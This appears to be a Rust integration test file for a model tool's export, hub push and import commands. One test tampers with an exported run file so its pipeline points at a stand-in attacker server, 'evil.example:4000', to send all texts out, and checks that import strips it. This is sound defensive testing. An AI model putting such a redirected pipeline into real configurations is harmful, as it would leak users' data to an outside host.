//! Exports pushed to a hub on loopback, and imported by a user who has only the model.

use std::fs;
use std::process::Command;

use sepal_integration_tests::fixture::{Fixture, combined_output, failure_messages, stdout};
use sepal_testkit::hub::{LoopbackHub, TOKEN};
use serde_json::Value;

/// Returns a `sepal` command of another user, with its own cache and a login for the hub.
fn other_user(fixture: &Fixture, hub: &LoopbackHub, args: &[&str]) -> Command {
    let mut command = fixture.sepal(args);
    command.env("HF_ENDPOINT", hub.endpoint()).env("HF_HUB_OFFLINE", "0").env("HF_TOKEN", TOKEN);
    command.env("SEPAL_CACHE", fixture.path("other/sepal")).env("HF_HUB_CACHE", fixture.path("other/hub"));
    command
}

#[test]
fn pushed_classifier_predicts_on_another_machine() {
    let fixture = Fixture::new("llama-gqa");
    let folder_path = fixture.path("").display().to_string();
    let sets = [("model.source", "model"), ("data.train", "train.csv"), ("data.validation", "validation.csv")];
    let mut sets: Vec<String> = sets.iter().map(|(key, name)| format!("{key}={folder_path}{name}")).collect();
    sets.extend(["train.max_steps=3".to_owned(), r#"data.template="It says: {text}""#.to_owned()]);
    let trained = fixture.run(&sets.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(fs::read_to_string(trained.folder.join("manifest.json")).expect("a manifest").contains(&folder_path));
    let folder = trained.folder.to_str().expect("a path");
    let hub = LoopbackHub::new([]);
    // The tiny model is in a local folder, which others cannot load.
    combined_output(fixture.sepal(&["export", "peft", folder, "export"]));
    let messages = failure_messages(other_user(&fixture, &hub, &["push", "export", "hub:me/reviews"]));
    assert!(messages.contains("--base-model OWNER/NAME"), "{messages}");

    let args = ["export", "peft", folder, "export", "--base-model", "me/tiny", "--overwrite"];
    combined_output(fixture.sepal(&args));
    fs::write(fixture.path("export/notes.txt"), "mine").expect("written");
    let messages = combined_output(other_user(&fixture, &hub, &["push", "export", "hub:me/reviews", "--private"]));
    assert!(messages.contains("names no licence"), "{messages}");
    assert!(messages.contains("left out, as not part of an export: notes.txt"), "{messages}");
    assert!(messages.contains("pushed README.md, adapter_config.json,"), "{messages}");
    assert!(hub.is_private());
    let pushed = hub.files();
    let names: Vec<&str> = pushed.keys().map(String::as_str).collect();
    let expected =
        ["README.md", "adapter_config.json", "adapter_model.safetensors", "sepal.json", "sepal_adapter.safetensors"];
    assert_eq!(names, expected);
    for (name, content) in &pushed {
        let text = String::from_utf8_lossy(content);
        assert!(!text.contains(&folder_path), "{name} tells of this machine");
    }
    let card = String::from_utf8_lossy(&pushed["README.md"]).into_owned();
    assert!(card.contains(r#"template = "It says: {text}""#) && card.contains("max_length = "), "{card}");

    let again = combined_output(other_user(&fixture, &hub, &["push", "export", "hub:me/reviews"]));
    assert!(again.contains("nothing was pushed"), "{again}");
    assert_eq!(hub.commits().len(), 1);
    // Paths of the exporting machine do not exist here.
    fs::create_dir(fixture.path("elsewhere")).expect("a folder");
    let mut import = other_user(&fixture, &hub, &["import", "peft", "hub:me/reviews", "classifier"]);
    import.current_dir(fixture.path("elsewhere"));
    let messages = combined_output(import);
    assert!(messages.contains("`sepal predict classifier --input FILE --set model.source=SOURCE`"), "{messages}");
    let (rows, model) = (format!("{folder_path}validation.csv"), format!("model.source={folder_path}model"));
    let predicted = |run: &str| {
        let args = ["predict", run, "-i", &rows, "--probabilities", "--set", &model];
        let mut command = fixture.sepal(&args);
        command.current_dir(fixture.path("elsewhere"));
        stdout(command)
    };
    assert_eq!(predicted("classifier"), predicted(folder));
}

#[test]
fn imported_pipeline_cannot_redirect_the_swarm() {
    let fixture = Fixture::new("llama-gqa");
    let trained = fixture.run(&["train.max_steps=1"]);
    let folder = trained.folder.to_str().expect("a path");
    combined_output(fixture.sepal(&["export", "peft", folder, "export", "--base-model", "me/tiny"]));
    let side = fixture.path("export/sepal.json");
    let honest: Value = serde_json::from_slice(&fs::read(&side).expect("a file")).expect("JSON");
    let with = |pipeline: &str| {
        let mut side_file = honest.clone();
        side_file["run"]["pipeline"] = pipeline.into();
        fs::write(&side, side_file.to_string()).expect("written");
    };
    let pipeline = honest["run"]["pipeline"].as_str().expect("a pipeline").to_owned();
    assert!(pipeline.contains("use: embedded"), "{pipeline}");
    // This pipeline would send all texts to its author.
    let redirected = pipeline.replace("use: embedded", "use: static");
    with(&redirected.replace("tape_budget_mb: 4096", "servers: ['evil.example:4000']"));
    let changed = fs::read_to_string(&side).expect("a file");
    assert!(changed.contains("evil.example"), "{changed}");
    combined_output(fixture.sepal(&["import", "peft", "export", "imported"]));
    let imported = fs::read_to_string(fixture.path("imported/pipeline.yaml")).expect("a pipeline");
    assert!(imported.contains("use: embedded") && !imported.contains("evil.example"), "{imported}");
    // An invalid run is left out with a note.
    with("nonsense: 1");
    let messages = combined_output(fixture.sepal(&["import", "peft", "export", "alone"]));
    assert!(messages.contains("the adapter is imported without its run"), "{messages}");
    assert!(messages.contains("nonsense"), "{messages}");
    assert!(fixture.path("alone/adapter.safetensors").is_file() && !fixture.path("alone/pipeline.yaml").exists());
}

#[test]
fn push_without_an_export_is_refused() {
    let fixture = Fixture::new("llama-gqa");
    let hub = LoopbackHub::new([]);
    fs::create_dir(fixture.path("folder")).expect("a folder");
    let no_export = "not an exported folder (README.md is missing); `sepal export peft` writes one";
    for (args, part) in [
        (["push", "folder", "hub:me/x"], no_export),
        (["push", "folder", "me/x"], "it is not a repository of the hub; use hub:OWNER/NAME"),
    ] {
        let messages = failure_messages(other_user(&fixture, &hub, &args));
        assert!(messages.contains(part), "{messages}");
    }
    assert!(hub.commits().is_empty());
}
